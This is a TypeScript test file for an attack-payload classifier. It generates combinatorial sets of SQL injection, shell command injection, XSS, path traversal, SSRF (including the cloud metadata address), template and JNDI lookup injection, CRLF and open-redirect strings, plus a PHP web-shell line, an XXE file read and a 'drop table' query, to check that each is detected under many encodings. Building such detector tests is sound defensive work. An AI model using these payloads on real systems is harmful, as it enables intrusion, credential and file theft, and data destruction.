import type { AttackType } from '@aegis/model';
import { expect, test } from 'vitest';
import { classifyPayload } from './classify-payload.ts';

/**
 * What each language lets one write differently, applied to what is the same attack: every combination must be
 * seen. The lists come from the grammars, not from any collection of payloads.
 */
interface Grammar {
  readonly name: string;
  readonly types: readonly AttackType[];
  readonly part: string;
  readonly texts: readonly string[];
}

/** Every choice of one string from each list, put together. */
function product(...lists: readonly (readonly string[])[]): readonly string[] {
  return lists.reduce<readonly string[]>(
    (heads, list) => heads.flatMap((head) => list.map((tail) => head + tail)),
    [''],
  );
}

/** Each text with each of the spellings of one of its pieces. */
function respell(texts: readonly string[], piece: string, spellings: readonly string[]): readonly string[] {
  return texts.flatMap((text) => spellings.map((spelling) => text.replaceAll(piece, spelling)));
}

/** `SeLeCt`. */
function mixed(text: string): string {
  return text.replace(/[a-z]/gi, (letter, at: number) =>
    at % 2 === 0 ? letter.toUpperCase() : letter.toLowerCase(),
  );
}

const QUERIES = [
  ' or 1=1',
  ' and 1=2',
  ' union select 1,2',
  ' union all select null,null',
  ' and sleep(5)',
  ' order by 9',
  ' and (select 1)=1',
  " or 'a'='a'",
  ' or 2 between 1 and 3',
  ' or exists(select 1)',
  ' group by 1 having 1=1',
];
const BLANKS = [
  ' ',
  '/**/',
  '/*x*/',
  '%09',
  '%0a',
  '%0b',
  '%0c',
  '%0d',
  '%0d%0a',
  '%a0',
  '+',
  '%20',
  '%2520',
  '--x%0a',
  '%23x%0a',
  '\t',
  '\n',
];

const SHELL_COMMANDS = [
  'id',
  'whoami',
  'ls -la',
  'cat /etc/hosts',
  'sleep 5',
  'ping -c 3 127.0.0.1',
  'uname -a',
];
const HIDDEN_NAMES = [
  'cat',
  "c''at",
  'c""at',
  'c\\at',
  "'c'at",
  'c$@at',
  'c$*at',
  'c${x}at',
  'c$()at',
  'c``at',
  '/bin/cat',
  '/usr/bin/cat',
  '/bin/c?t',
  '/???/c?t',
  '/b[i]n/cat',
  '\\c\\a\\t',
  '"c"at',
  'c^at',
];

const CALLS = [
  'alert(1)',
  'alert`1`',
  '(alert)(1)',
  'top.alert(1)',
  "top['al'+'ert'](1)",
  "window['alert'](1)",
  'eval(name)',
  'a=alert,a(1)',
  '[1].map(alert)',
  'confirm(document.domain)',
  "import('//x.example')",
  'print()',
  'alert&lpar;1&rpar;',
  '&#97;lert(1)',
  '&#x61&#x6c&#x65rt(1)',
  '\\u0061lert(1)',
  'throw onerror=alert,1',
  'location=name',
  "fetch('//x.example')",
];
const TAGS = [
  'img',
  'svg',
  'body',
  'video',
  'x',
  'details',
  'input',
  'a',
  'math',
  'div',
  'xss-y',
  'p',
  'button',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'ontoggle',
  'onfocus',
  'onanimationend',
  'onpointerrawupdate',
  'onscrollsnapchange',
  'onbeforetoggle',
];

const UP = [
  '../',
  '..\\',
  '..%2f',
  '..%5c',
  '%2e%2e%2f',
  '%2e%2e/',
  '%252e%252e%252f',
  '..%252f',
  '..%c0%af',
  '%c0%ae%c0%ae/',
  '..%e0%80%af',
  '..%u2215',
  '%uff0e%uff0e/',
  '....//',
  '..././',
  '....\\/',
  '..;/',
  './../',
  '.%2e/',
  '\\u002e\\u002e/',
  '\\x2e\\x2e\\x2f',
  '&#46;&#46;/',
  '..//',
  '.\\./',
];

const HIDDEN_HOSTS = [
  '127.0.0.1',
  '127.1',
  '2130706433',
  '0x7f000001',
  '0x7f.0.0.1',
  '0177.0.0.1',
  '017700000001',
  '[::1]',
  '[::ffff:127.0.0.1]',
  '[::ffff:7f00:1]',
  '[0:0:0:0:0:0:0:1]',
  'localhost',
  'LOCALHOST',
  'localhost.',
  '127.0.0.1.nip.io',
  'x@127.0.0.1',
  '%6c%6f%63%61%6c%68%6f%73%74',
  '①②⑦.⓪.⓪.①',
  '127。0。0。1',
  '169.254.169.254',
  '2852039166',
  '[fd00:ec2::254]',
];

const GRAMMARS: readonly Grammar[] = [
  {
    name: 'SQL behind every way to end a value',
    types: ['sql_injection'],
    part: 'q',
    texts: product(['1', "1'", '1"', '1)', "1')", "1'))", "x'", '-1', '%27', "\\'"], QUERIES, [
      '-- -',
      '--+',
      '#',
      '/*',
      ';%00',
      '--',
    ]),
  },
  {
    name: 'SQL with every kind of blank',
    types: ['sql_injection'],
    part: 'q',
    texts: product(respell(product(["1'", '1'], QUERIES), ' ', BLANKS), ['-- -']),
  },
  {
    name: 'SQL in odd letters and hints',
    types: ['sql_injection'],
    part: 'q',
    texts: [
      ...product(["1'", '1'], QUERIES, ['-- -']).map(mixed),
      ...respell(["1' union select 1,2-- -"], 'union', [
        '/*!union*/',
        '/*!50000union*/',
        'un/**/ion',
        'ununionion',
      ]),
      ...respell(["1' union select 1,2-- -"], 'select', [
        '/*!select*/',
        'sel/**/ect',
        'selselectect',
        '(select',
        'distinct select',
      ]),
      ...respell(["1' or 1=1-- -"], '1=1', [
        '1',
        'true',
        '2>1',
        '1<>2',
        '1 like 1',
        '1 in (1)',
        '1 is not null',
        "'1'='1'",
        '0x31=0x31',
        '1e0=1',
        '(1)=(1)',
        'not 0',
        '~0',
        "x'31'='1'",
        '1 between 0 and 2',
        "char(49)='1'",
      ]),
    ],
  },
  {
    name: 'commands behind every separator',
    types: ['command_execution', 'local_file_inclusion'],
    part: 'q',
    texts: [
      ...product(
        ['', '1', '127.0.0.1', "x'", 'a"'],
        [';', '|', '||', '&&', '; ', ' | ', ' && ', '%0a', '%0d%0a', '%3b', '%7c', '%26%26', '%26'],
        SHELL_COMMANDS,
      ),
      ...product(['', 'x', '127.0.0.1'], ['$(', '`'], SHELL_COMMANDS).map((text) =>
        text.includes('`') ? `${text}\`` : `${text})`,
      ),
    ],
  },
  {
    name: 'commands that are hidden',
    types: ['command_execution', 'local_file_inclusion'],
    part: 'q',
    texts: product([';', '|', '||', '&&', '%0a', ';${IFS}', '; '], HIDDEN_NAMES, [
      ' /etc/hosts',
      '${IFS}/etc/hosts',
      '$IFS$9/etc/hosts',
      '%09/etc/hosts',
      '</etc/hosts',
      '%20/etc/hosts',
    ]),
  },
  {
    name: 'scripts in every tag and handler',
    types: ['cross_site_scripting'],
    part: 'q',
    texts: [
      ...product(
        ['<'],
        TAGS,
        [' ', '/', '\t', '%0a', '%0c', '%0d', ' x="y" '],
        HANDLERS,
        ['=', ' = ', '%0a='],
        ['"', "'", '', '`'],
      ).flatMap((text, i) => {
        const quote = /["'`]$/.exec(text)?.[0] ?? '';
        return `${text}${CALLS[i % CALLS.length]}${quote}>`;
      }),
      ...product(
        ['', '"', "'", '">', "'>", '-->', '</title>', '</textarea>', '</script>', ']]>'],
        ['<svg onload=alert(1)>', '<ScRiPt>alert(1)</ScRiPt>', '<img src=x onerror=alert(1)//'],
      ),
      ...product(['" ', "' ", '"', "'", '"/'], HANDLERS, ['='], CALLS),
    ],
  },
  {
    name: 'scripts in addresses',
    types: ['cross_site_scripting'],
    part: 'q',
    texts: product(
      ['<a href=', '<iframe src=', '<form action=', '<object data=', '<a href="', "<svg><a xlink:href='"],
      [
        'javascript:',
        'JaVaScRiPt:',
        'java%09script:',
        'java%0ascript:',
        'java&Tab;script:',
        'javascript&colon;',
        '&#106;avascript:',
        '&#x6A;avascript&#58;',
        '%01javascript:',
        ' javascript:',
        '\\x6aavascript:',
        'vbscript:',
      ],
      ['alert(1)', 'alert`1`', '//%0aalert(1)', 'eval(name)'],
    ),
  },
  {
    name: 'steps upward in every spelling',
    types: ['path_traversal', 'local_file_inclusion'],
    part: 'q',
    texts: [
      ...product(['', '/', 'x/', 'file=', '/var/www/'], UP, ['etc/hosts', 'x', '']).map((text) =>
        UP.reduce((found, up) => found.replace(up, up.repeat(3)), text),
      ),
    ],
  },
  {
    name: 'addresses of the inside',
    types: ['ssrf', 'open_redirect'],
    part: 'url',
    texts: product(
      ['http://', 'https://', 'HTTP://', 'http:\\\\', '//', 'gopher://', 'http:%2f%2f'],
      HIDDEN_HOSTS,
      ['', '/', ':80/x', '/?x', '#y'],
    ),
  },
  {
    name: 'templates',
    types: ['template_injection', 'cross_site_scripting'],
    part: 'q',
    texts: [
      ...[
        ['{{', '}}'],
        ['${', '}'],
        ['#{', '}'],
        ['*{', '}'],
        ['@{', '}'],
        ['<%=', '%>'],
        ['{{=', '}}'],
        ['${{', '}}'],
        ['[[${', '}]]'],
        ['%{', '}'],
        ['{%=', '%}'],
        ['{{{', '}}}'],
      ].flatMap(([open = '', close = '']) =>
        [
          '7*7',
          ' 7*7 ',
          "7*'7'",
          '(7*7)',
          '191-7',
          "''.__class__",
          'self.__init__',
          'T(java.lang.Runtime)',
          '"a".getClass()',
          "x.constructor.constructor('y')()",
        ].flatMap((inside) => ['', 'a', '"', "'}"].map((head) => `${head}${open}${inside}${close}`)),
      ),
      ...product(
        ['${', '${lower:$', '$%7b'],
        [
          'jndi:',
          '${lower:j}ndi:',
          'j${::-n}di:',
          '${::-j}${::-n}${::-d}${::-i}:',
          '${env:x:-j}ndi${env:x:-:}',
          'JNDI:',
          'jn${upper:d}i:',
        ],
        ['ldap://x.example/a}', '${::-l}dap://x.example}', 'rmi://x.example/a}', 'dns:x.example}'],
      ).filter((text) => !text.startsWith('${lower:$')),
    ],
  },
  {
    name: 'line breaks and headers',
    types: ['crlf_injection', 'cross_site_scripting', 'open_redirect'],
    part: 'q',
    texts: product(
      ['', 'x', '/', 'en-US'],
      [
        '%0d%0a',
        '%0a',
        '%0d',
        '%250d%250a',
        '%u000d%u000a',
        '\\r\\n',
        '%E5%98%8A%E5%98%8D',
        '%c4%8d%c4%8a',
        '\r\n',
        '%0d%0a%20',
        '%23%0d%0a',
        '%00%0d%0a',
      ],
      [
        'Set-Cookie: a=b',
        'Location: http://x.example',
        'Content-Length: 0',
        'X-Y: z',
        'Access-Control-Allow-Origin: *',
        '%0d%0a<script>alert(1)</script>',
      ],
    ),
  },
  {
    name: 'redirects',
    types: ['open_redirect', 'ssrf', 'remote_file_inclusion'],
    part: 'next',
    texts: product(
      [
        '//',
        '///',
        '////',
        '/\\',
        '\\\\',
        '/\\/',
        '\\/\\/',
        '/%09/',
        '/%0d/',
        '%2f%2f',
        '%5c%5c',
        '/%5c',
        'https:',
        'https:/',
        'https:///',
        'http:\\\\',
        '/%2f',
        '//x@',
        'https://good.example@',
        'https://good.example:443@',
        '//good.example%40',
        '/https://',
        '//;@',
        '//%5c',
        '〱',
      ],
      ['evil.example', 'evil.example/', 'evil.example/%2f..', 'EVIL.example/x?y=z'],
    ),
  },
];

/** What may be wrapped around any attack on its way. */
const ENCODINGS: readonly (readonly [name: string, encode: (text: string) => string])[] = [
  ['as it is', (text) => text],
  ['URL', encodeURIComponent],
  ['URL, every character', (text) => hexBytes(text, '%')],
  ['URL, twice', (text) => encodeURIComponent(encodeURIComponent(text))],
  ['%u', (text) => text.replace(/[^\w ]/g, (char) => `%u${hexUnit(char)}`)],
  ['unicode escapes', (text) => text.replace(/[^\w ]/g, (char) => `\\u${hexUnit(char)}`)],
  ['\\x', (text) => text.replace(/[^\w ]/g, (char) => `\\x${hexUnit(char).slice(2)}`)],
  ['HTML, decimal', (text) => text.replace(/[^\w ]/g, (char) => `&#${char.charCodeAt(0)};`)],
  [
    'HTML, hexadecimal',
    (text) => text.replace(/[^\w ]/g, (char) => `&#x${char.charCodeAt(0).toString(16)};`),
  ],
  [
    'HTML, padded',
    (text) => text.replace(/[^\w ]/g, (char) => `&#${String(char.charCodeAt(0)).padStart(7, '0')};`),
  ],
  ['base64', (text) => Buffer.from(text).toString('base64')],
  ['base64url', (text) => Buffer.from(text).toString('base64url')],
  ['hexadecimal', (text) => Buffer.from(text).toString('hex')],
  [
    'full width',
    (text) => text.replace(/[!-/:-@[-`{-~]/g, (char) => String.fromCharCode(char.charCodeAt(0) + 0xfee0)),
  ],
];

function hexBytes(text: string, prefix: string): string {
  return Buffer.from(text).reduce((out, byte) => `${out}${prefix}${byte.toString(16).padStart(2, '0')}`, '');
}

function hexUnit(char: string): string {
  return char.charCodeAt(0).toString(16).padStart(4, '0');
}

test.each(GRAMMARS)('$name: every combination is seen', ({ part, texts }) => {
  const missed = texts.filter((text) => classifyPayload(text, { place: 'query', part }).length === 0);
  expect(missed).toEqual([]);
});

test.each(GRAMMARS)('$name: nearly all are called by their name', ({ part, texts, types }) => {
  const named = texts.filter((text) =>
    classifyPayload(text, { place: 'query', part }).some(({ attackType }) => types.includes(attackType)),
  );
  expect(named.length / texts.length).toBeGreaterThanOrEqual(0.98);
});

/** One of each family, which says what it is without any help. */
const PLAIN: readonly string[] = [
  "1' or 1=1-- -",
  "1' union select 1,version(),3-- -",
  "admin'-- -",
  '1; drop table users-- -',
  "1' and extractvalue(1,concat(0x7e,user()))-- -",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  "';alert(document.cookie);//",
  '; cat /etc/passwd',
  '| whoami',
  '$(sleep 10)',
  '&& ping -c 3 127.0.0.1',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'php://filter/convert.base64-encode/resource=index.php',
  '{{7*7}}',
  '${jndi:ldap://x.example/a}',
  "{{''.__class__.__mro__}}",
  '<?php system($_GET[1]); ?>',
  'O:8:"stdClass":1:{s:1:"a";i:1;}',
  '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>',
  '*)(uid=*))(|(uid=*',
  '{"$where":"sleep(1000)"}',
  "' || this.password.match(/.*/)//",
  'http://169.254.169.254/latest/meta-data/',
];

test.each(ENCODINGS)('%s hides nothing', (_, encode) => {
  const missed = PLAIN.filter(
    (text) => classifyPayload(encode(text), { place: 'query', part: 'q' }).length === 0,
  );
  expect(missed).toEqual([]);
});
